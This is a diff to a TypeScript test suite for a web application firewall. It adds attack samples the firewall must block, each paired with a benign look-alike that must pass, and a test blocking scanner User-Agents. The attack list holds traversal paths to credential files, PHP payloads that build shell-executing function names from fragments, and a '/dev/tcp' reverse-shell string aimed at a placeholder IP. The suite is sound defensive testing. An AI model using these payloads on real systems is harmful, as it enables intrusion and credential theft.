@@ -36,6 +36,39 @@ const PLACES: WafPlace[] = ['query', 'form', 'json', 'xml', 'multipart', 'cookie
 const CLASSES: { shape: string; attacks: string[]; benign: string[] }[] = [
   {
     shape:
+      'traversal: a backslash climb, a climb to a hidden file, credential folders; PHP: a callable spelt in fragments',
+    attacks: [
+      '..\\pineapple',
+      'file=..\\..\\boot.ini',
+      '../.history',
+      '../../.bash_profile',
+      '/path/to/.docker/secrets',
+      '~/.aws/credentials',
+      '/home/app/.kube/config',
+      "define('z', [['sys' .'tem']]);(z)[0][0]('uname');",
+      "$f = 'pass'.'thru'; $f('id');",
+      "('sh'.'ell'.'_exec')('id')",
+      'd=/dev&&(sh)0>$d/tcp/198.51.100.7/777',
+      '\\ls',
+      '\\cat /etc/hostname',
+    ],
+    benign: [
+      '../images/logo.png',
+      'C:\\Users\\marie\\report.docx',
+      'go up (..) then open the history',
+      '../docs/intro.md',
+      'the .docker folder and .aws settings',
+      '~/projects/notes.txt',
+      "'sys' and 'tem' are fragments",
+      "echo 'hello' . 'world'",
+      "'file'.'name'",
+      'price > $d/unit',
+      '\\section{ls and cat}',
+      'C:\\ls',
+    ],
+  },
+  {
+    shape:
       'shell: Windows IF, alias with options, commands by their bin path, expansions, here-strings, history, Shellshock',
     attacks: [
       'IF "%1"=="/?" echo help',
@@ -200,6 +233,24 @@ describe('WAF: headers a request has no use for, and an Accept asking for an exo
         body: method === 'POST' ? 'x' : undefined,
       });
       if (!passed(r)) wrong.push(`benign ${method} ${JSON.stringify(headers)}: ${r.status}`);
+    }
+    expect(wrong).toEqual([]);
+  });
+});
+
+describe('WAF: scanners by their default User-Agent', () => {
+  it("ffuf's and OpenVAS's own User-Agents are blocked; browsers and names that only share a word pass", async () => {
+    const wrong: string[] = [];
+    const ua = (v: string) => sender.send({ method: 'GET', path: '/', headers: { 'user-agent': v } });
+    for (const v of ['Fuzz Faster U Fool v2.0.0', 'Microsoft WinRM Client OpenVASVT']) {
+      if (!blocked(await ua(v))) wrong.push(`attack ${v}`);
+    }
+    for (const v of [
+      'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
+      'FasterFoolproof/1.2 (fuzzy search app)',
+      'Microsoft WinRM Client',
+    ]) {
+      if (!passed(await ua(v))) wrong.push(`benign ${v}`);
     }
     expect(wrong).toEqual([]);
   });
